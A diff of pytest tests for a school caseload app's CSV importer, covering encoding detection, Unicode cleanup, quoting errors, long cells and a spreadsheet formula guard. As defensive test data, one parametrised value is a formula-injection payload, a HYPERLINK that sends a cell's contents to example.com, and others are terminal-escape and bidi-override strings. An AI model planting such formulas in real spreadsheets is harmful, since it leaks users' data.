@@ -1,14 +1,18 @@
 """Reading caseload CSV files as Excel and district systems write them."""
 
+import unicodedata
 from datetime import date
 
 import pytest
 
+from iep_desk.core.clean_text import clean_text
 from iep_desk.core.csv_import import (
+    MAX_CELL_CHARACTERS,
     CsvFormatError,
     ImportDateError,
     decide_date_order,
     decode_csv_bytes,
+    guard_formula,
     guess_mapping,
     mapping_problems,
     mapping_setting_key,
@@ -19,6 +23,7 @@ from iep_desk.core.csv_import import (
     read_csv,
     read_rows,
     split_whole_name,
+    unguard_formula,
 )
 
 TODAY = date(2026, 11, 23)
@@ -234,4 +239,153 @@ def test_values_beyond_the_named_columns_are_reported_not_dropped():
     table, mapping = _table("First Name,Last Name\nAnn,Lee,stray note\n")
     rows = read_rows(table, mapping, None, TODAY)
     assert not rows[0].problems
-    assert rows[0].notes == ["1 value(s) beyond the last named column are not imported: stray note"]
+    assert rows[0].notes == ["1 value beyond the last named column is not imported: stray note"]
+    table, mapping = _table("First Name,Last Name\nAnn,Lee,x,y\n")
+    assert read_rows(table, mapping, None, TODAY)[0].notes == [
+        "2 values beyond the last named column are not imported: x, y"]
+
+
+# -- issue 13: encodings decided with evidence ----------------------------------------------
+
+def test_utf16_with_a_byte_order_mark_is_read_as_text():
+    text = "First Name,Last Name\r\nJosé,Muñoz\r\nÁnh,Nguyễn\r\n"
+    for encoding in ("utf-16", "utf-16-le", "utf-16-be"):
+        bom = {"utf-16": b"", "utf-16-le": b"\xff\xfe", "utf-16-be": b"\xfe\xff"}[encoding]
+        table = read_csv(bom + text.encode(encoding))
+        assert table.encoding.startswith("utf-16")
+        assert table.rows == [(2, ["José", "Muñoz"]), (3, ["Ánh", "Nguyễn"])]
+
+
+def test_utf16_without_a_byte_order_mark_is_read_too():
+    table = read_csv("First Name\r\nJosé\r\n".encode("utf-16-le"))
+    assert table.rows == [(2, ["José"])]
+
+
+@pytest.mark.parametrize("data, words", [
+    (b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00", "Excel workbook (.xlsx)"),
+    (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x00\x00\x00\x00", "older Excel workbook (.xls)"),
+    (b"%PDF-1.7\n\x00\x01", "PDF"),
+])
+def test_files_that_are_not_text_are_called_what_they_are(data, words):
+    with pytest.raises(CsvFormatError) as error:
+        read_csv(data)
+    assert words in str(error.value)
+    assert "UTF-16" not in str(error.value)
+
+
+def test_a_utf8_file_with_one_windows_1252_row_is_stopped_at_that_row():
+    good = "First Name,Last Name\r\nJosé,Muñoz\r\nÁnh,Nguyễn\r\n".encode("utf-8")
+    data = good + "Zoë,Dupré\r\n".encode("cp1252") + "Łucja,Żak\r\n".encode("utf-8")
+    with pytest.raises(CsvFormatError) as error:
+        read_csv(data)
+    message = str(error.value)
+    assert "line 4" in message and "UTF-8" in message
+    assert "Nothing was imported" in message
+    with pytest.raises(CsvFormatError):
+        decode_csv_bytes(data)
+
+
+def test_windows_1252_only_when_no_utf8_sequence_is_in_the_file():
+    text, encoding = decode_csv_bytes("Name\r\nZoë Dupré\r\n".encode("cp1252"))
+    assert (text, encoding) == ("Name\r\nZoë Dupré\r\n", "cp1252")
+    text, encoding = decode_csv_bytes("Name\r\nZoë Dupré\r\n".encode("utf-8"))
+    assert encoding == "utf-8" and "Zoë Dupré" in text
+
+
+def test_a_bom_file_with_a_broken_row_is_stopped_too():
+    data = b"\xef\xbb\xbf" + "Name\nJosé\n".encode("utf-8") + "Zoë\n".encode("cp1252")
+    with pytest.raises(CsvFormatError) as error:
+        read_csv(data)
+    assert "line 3" in str(error.value).lower()
+
+
+# -- issue 13: one Unicode form, no control characters ---------------------------------------
+
+def test_names_are_read_in_one_unicode_form():
+    decomposed = "Jose\u0301,Mun\u0303oz\r\n"
+    table = read_csv(("First Name,Last Name\r\n" + decomposed).encode("utf-8"))
+    assert table.rows == [(2, ["José", "Muñoz"])]  # composed: NFC
+    assert all(unicodedata.is_normalized("NFC", cell) for cell in table.rows[0][1])
+
+
+def test_control_and_bidi_override_characters_are_removed():
+    data = ("First Name,Last Name,Strengths\r\n"
+            "A\x1b[31mnn\x07,\u202eeeL\u202c,\"line one\r\nline\ttwo\x00\"\r\n"
+            "\u2067\u0645\u0631\u064a\u0645\u2069,\u2066Lee,x\x85y\r\n").encode("utf-8")
+    table = read_csv(data)
+    assert table.rows[0][1] == ["A[31mnn", "eeL", "line one\nline\ttwo"]
+    # A balanced isolate stays (it lays out a right-to-left name); an unbalanced one goes.
+    assert table.rows[1][1] == ["\u2067\u0645\u0631\u064a\u0645\u2069", "Lee", "xy"]
+    mapping = guess_mapping(table.headers)
+    rows = read_rows(table, mapping, None, TODAY)
+    assert rows[0].student["strengths"] == "line one\nline\ttwo"  # may hold several lines
+
+
+def test_single_line_fields_get_no_line_breaks_or_tabs():
+    data = 'First Name,School,Parent Name\r\nAnn,"North\r\nCampus","Kim\tLee"\r\n'.encode()
+    table = read_csv(data)
+    rows = read_rows(table, guess_mapping(table.headers), None, TODAY)
+    assert rows[0].student["school"] == "North Campus"
+    assert rows[0].guardian["name"] == "Kim Lee"
+
+
+def test_clean_text_rules():
+    assert clean_text("a\x00b\x1fc\x7fd\x9fe") == "abcde"
+    assert clean_text("x\r\ny\rz", multiline=True) == "x\ny\nz"
+    assert clean_text("x\r\ny\tz") == "x y z"
+    assert clean_text("\u202dabc\u202c \u202aq\u202b") == "abc q"
+    assert clean_text("\u2066a\u2069 \u2068b") == "\u2066a\u2069 b"
+    assert clean_text("\u2069a\u2066") == "a"
+    assert clean_text("\ufeffAnn") == "Ann"
+    assert clean_text("Ánh\u200f") == "Ánh\u200f"  # a right-to-left mark is not a control
+
+
+# -- issue 13: an unclosed quote --------------------------------------------------------------
+
+def test_an_unclosed_quote_is_refused_with_the_line_where_it_opened():
+    data = b'First Name,Last Name\nAnn,Lee\n"Bo,Ray\nCy,Day\nDi,Fay\n'
+    with pytest.raises(CsvFormatError) as error:
+        read_csv(data)
+    assert "Line 3" in str(error.value) and "quotation mark" in str(error.value)
+
+
+def test_an_unclosed_quote_that_a_later_quote_seems_to_close_is_refused_too():
+    data = b'First Name,Last Name\nAnn,Lee\nBo,"Ray\nCy,"Day"\nDi,Fay\n'
+    with pytest.raises(CsvFormatError) as error:
+        read_csv(data)
+    assert "line 3" in str(error.value).lower()
+
+
+def test_a_closed_multiline_cell_and_a_stray_quote_inside_a_line_are_fine():
+    table = read_csv(b'First Name,Notes\nAnn,"two\nlines ""quoted"""\nBo,5" tall\n')
+    assert table.rows == [(2, ["Ann", 'two\nlines "quoted"']), (3, ["Bo", '5" tall'])]
+
+
+# -- issue 13: long texts and the spreadsheet's formula guard --------------------------------
+
+def test_a_300_kb_cell_is_read():
+    note = ("A long note. " * 25_000)[:300_000]
+    table = read_csv(f'First Name,Strengths\nAnn,"{note}"\n'.encode())
+    assert table.rows[0][1][1] == note
+
+
+def test_an_absurdly_long_cell_is_refused_with_a_message():
+    huge = "x" * (MAX_CELL_CHARACTERS + 1)
+    with pytest.raises(CsvFormatError) as error:
+        read_csv(f'First Name,Strengths\nAnn,"{huge}"\n'.encode())
+    assert "Row 2" in str(error.value) and "too long" in str(error.value)
+
+
+@pytest.mark.parametrize("stored", [
+    "=HYPERLINK(\"http://example.com/?\"&A1)", "+1 555 0100", "-Ana", "@SUM(A1)", "\tTabbed",
+    "'-already quoted", "''=twice", "'plain", "O'Brien", "plain", "", "-", "'",
+])
+def test_formula_guard_round_trips_exactly(stored):
+    guarded = guard_formula(stored)
+    assert guarded[:1] not in ("=", "+", "-", "@", "\t", "\r")
+    assert unguard_formula(guarded) == stored
+
+
+def test_a_guarded_cell_is_read_without_its_quote():
+    table = read_csv("First Name,Parent Phone\r\n'-Ana,'+1 555 0100\r\n".encode())
+    assert table.rows == [(2, ["-Ana", "+1 555 0100"])]
